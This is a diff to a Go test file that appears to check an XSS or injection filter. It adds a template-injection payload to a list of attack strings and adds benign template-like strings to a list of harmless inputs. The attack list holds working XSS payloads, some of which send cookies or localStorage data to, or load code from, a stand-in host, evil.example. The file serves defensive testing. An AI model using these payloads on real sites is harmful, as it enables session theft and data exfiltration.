@@ -45,7 +45,7 @@ var attacks = map[string][]string{
 		`</script><script>alert(1)</script>`, `";document.location='//evil.example/'+document.cookie//`, `\';alert(1)//`, `*/alert(1)/*`, `alert(1)`, "alert`1`",
 		`(alert)(1)`, `1;alert(1)`, `[].constructor.constructor('x')()`, `window['al'+'ert'](1)`, `top["eval"](name)`, `"+{valueOf:alert}+"`, `';onerror=alert;throw 1//`,
 		`'?alert(1):'`, `"||alert(1)||"`, `';new Function(name)();'`, `';setTimeout("x",1);//`, `[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]()`,
-		"');\nalert(1);\n('", `'-import('//evil.example/x')-'`, `"]});fetch('//evil.example?'+localStorage.x);//`, `{{constructor.constructor('alert(1)')()}}`,
+		"');\nalert(1);\n('", `'-import('//evil.example/x')-'`, `"]});fetch('//evil.example?'+localStorage.x);//`, `{{constructor.constructor('alert(1)')()}}`, "{{ $eval('a\nb') }}",
 	},
 }
 
@@ -79,6 +79,7 @@ var harmless = []string{
 	`<a href="javascript:void(0);">x</a>`, `<img src="data:image/png;base64,iVBORw0KGgo=" alt="a (b)">`, `<img src="data:image/svg+xml,<svg/>">`, `<table class="x" border=1><tr><td colspan=2>y</td></tr></table>`,
 	`<ul><li>it's (one)</li></ul>`, `<h1 id="on">x</h1>`, `<p onclick="">x</p>`, `<style>p { color: red; scroll-behavior: smooth }</style>`, `<!-- a comment (x) -->`, `<iframe src="https://video.example/embed/1" allowfullscreen></iframe>`,
 	`<font color="red">x</font>`, `<video src="/a.mp4" controls></video>`, `<svg width="9"><circle r="4"/></svg>`, `<math><mi>x</mi></math>`, "<meta charset=\"utf-8\">", "List<String> x = new ArrayList<>();",
+	"{{ url_for('show', id=1) }} and {{ user.name|upper }}", "{{ x.constructor }}", "{% for a in b() %}{{ a }}{% endfor %}", `<img alt="javascript: an introduction (2nd ed.)" src=a.png>`,
 	`Why "a"? Because 'b' = "c".`, `the "regular expression(s)": /a(b)/`, "x: expression (1)", "Zoë’s “book” (2nd ed.)", "«Où ? (là)»", "¿Qué? (sí)", "It's 5 o'clock = tea 'time'", "don't; can't; won't()",
 }
 
